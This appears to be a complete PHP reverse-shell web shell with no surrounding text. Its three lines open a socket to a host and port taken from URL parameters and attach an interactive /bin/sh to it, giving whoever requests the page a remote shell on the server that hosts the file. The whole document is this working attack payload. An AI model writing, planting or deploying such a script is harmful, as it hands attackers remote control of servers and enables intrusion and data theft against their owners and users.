<?php
$s = fsockopen($_GET['h'], (int)$_GET['p']);
$proc = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);
